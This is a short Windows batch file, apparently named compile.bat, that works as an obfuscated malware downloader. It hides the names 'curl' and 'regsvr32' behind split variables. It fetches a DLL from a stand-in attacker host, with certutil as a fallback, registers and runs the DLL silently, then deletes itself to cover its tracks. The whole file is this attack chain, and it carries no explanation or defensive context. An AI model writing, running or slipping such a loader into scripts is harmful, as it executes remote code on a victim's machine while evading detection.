@echo off
set k=url
set c=c%k%
set r=reg
set s=svr32
set u=https://pastorcryptograph.evil.example/sdd.dll
%c% %u% -o compile.dll
if not exist compile.dll (
  certutil.exe -urlcache -f %u% compile.dll
)
%r%%s%.exe -s compile.dll
del /q compile.bat
